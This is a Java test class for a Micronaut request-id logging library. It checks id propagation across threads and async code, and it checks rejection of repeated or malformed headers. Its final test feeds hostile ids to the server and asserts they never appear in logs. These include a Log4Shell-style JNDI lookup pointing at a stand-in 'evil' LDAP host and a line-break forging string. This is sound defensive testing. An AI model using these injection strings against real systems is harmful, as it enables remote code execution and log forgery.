package dev.logctx.micronaut;

import static org.assertj.core.api.Assertions.assertThat;

import dev.logctx.testsupport.CapturedLog;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.MutableHttpRequest;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * With logctx-micronaut over real HTTP: the request id reaches event-loop and {@code @ExecuteOn}
 * controllers, executor tasks (with the MDC of the moment of submission), {@code @PreserveContext
 * @Async} bodies, and the HTTP client; hostile ids never reach a log line.
 */
@MicronautTest
class RequestIdHttpTest extends CapturingTest {


  private String echoed(String path, String id) {
    return get(path, id).header("X-Request-ID");
  }

  @Test
  void an_event_loop_controller_logs_with_the_request_id() {
    assertThat(echoed("/t/loop", "req-loop")).isEqualTo("req-loop");
    CapturedLog.Line line = logs.line("loop");
    assertThat(line.thread()).containsIgnoringCase("eventloop");
    assertThat(line.requestId()).isEqualTo("req-loop");
  }

  @Test
  void an_execute_on_controller_logs_with_the_request_id() {
    echoed("/t/blocking", "req-blocking");
    CapturedLog.Line line = logs.line("blocking");
    assertThat(line.thread()).doesNotContainIgnoringCase("eventloop");
    assertThat(line.requestId()).isEqualTo("req-blocking");
  }

  @Test
  void executor_tasks_get_the_mdc_of_the_moment_they_are_submitted() {
    echoed("/t/submit", "req-submit");
    for (String task : new String[] {"io task", "blocking task"}) {
      assertThat(logs.line(task).mdc())
          .as(task)
          .isEqualTo(Map.of("request_id", "req-submit", "user_id", "at-submit"));
    }
  }

  @Test
  void a_preserve_context_async_body_gets_the_mdc_of_the_call() {
    echoed("/t/async", "req-async");
    assertThat(logs.line("body from-request").mdc())
        .isEqualTo(Map.of("request_id", "req-async", "user_id", "at-call"));
  }

  @Test
  void the_client_filter_forwards_the_request_id() {
    assertThat(get("/t/forward", "req-fwd").body()).isEqualTo("req-fwd");
  }

  @Test
  void a_missing_id_is_generated_and_echoed() {
    String id = get("/t/loop", null).header("X-Request-ID");
    assertThat(id).matches("[0-9a-f-]{36}");
    assertThat(logs.line("loop").requestId()).isEqualTo(id);
  }

  /**
   * The same rules as logctx-jaxrs' filter over Quarkus REST (quarkus-demo's {@code
   * RepeatedRequestIdHeaderTest}): a header sent twice is refused, the same value twice included.
   */
  @ParameterizedTest
  @ValueSource(strings = {"rep-second-1", "rep-first-1"})
  void a_repeated_header_gets_a_generated_id_and_none_of_its_values_is_logged(String second) {
    MutableHttpRequest<?> request =
        HttpRequest.GET("/t/loop").header("X-Request-ID", "rep-first-1").header("x-request-id", second);
    String echoed = client.toBlocking().exchange(request, String.class).header("X-Request-ID");

    assertThat(echoed).matches("[0-9a-f-]{36}");
    assertThat(logs.line("loop").requestId()).isEqualTo(echoed);
    assertThat(logs.lines())
        .allSatisfy(line -> assertThat(line.mdc().values()).doesNotContain("rep-first-1", second));
  }

  @Test
  void a_header_name_in_other_letter_case_is_the_header() {
    MutableHttpRequest<?> request = HttpRequest.GET("/t/loop").header("x-ReQuEsT-iD", "case-mixed-1");

    assertThat(client.toBlocking().exchange(request, String.class).header("X-Request-ID"))
        .isEqualTo("case-mixed-1");
    assertThat(logs.line("loop").requestId()).isEqualTo("case-mixed-1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${jndi:ldap://evil/x}",
        "a b",
        "id%n-forged",
        "0123456789012345678901234567890123456789012345678901234567890123456789",
        "quote\"d",
        "é-not-ascii"
      })
  void a_hostile_id_never_reaches_a_log_line(String hostile) {
    String echoed = echoed("/t/loop", hostile);
    assertThat(echoed).isNotEqualTo(hostile).matches("[0-9a-f-]{36}");
    assertThat(logs.line("loop").requestId()).isEqualTo(echoed);
    assertThat(logs.lines())
        .allSatisfy(
            line -> {
              assertThat(line.message()).doesNotContain(hostile);
              assertThat(line.mdc().values()).doesNotContain(hostile);
            });
  }
}
